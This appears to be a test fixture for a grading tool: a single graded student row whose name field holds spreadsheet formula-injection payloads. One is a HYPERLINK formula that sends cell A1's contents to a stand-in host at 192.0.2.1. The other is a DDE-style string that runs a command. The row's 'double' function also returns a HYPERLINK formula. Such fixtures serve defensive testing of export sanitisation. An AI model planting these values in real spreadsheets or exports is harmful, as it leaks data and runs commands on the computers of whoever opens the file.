# row: 23
# says: a student whose name is a formula, and a wrong answer that is one
# marks: double 0, rest full
# status: graded
# name: =HYPERLINK("http://192.0.2.1/?"&A1,"click") | @SUM(1+1)*cmd|' /C calc'!A0
# holds: warm cold landlock

# %% double
def double(x):
    return '=HYPERLINK("http://192.0.2.1/","click")'
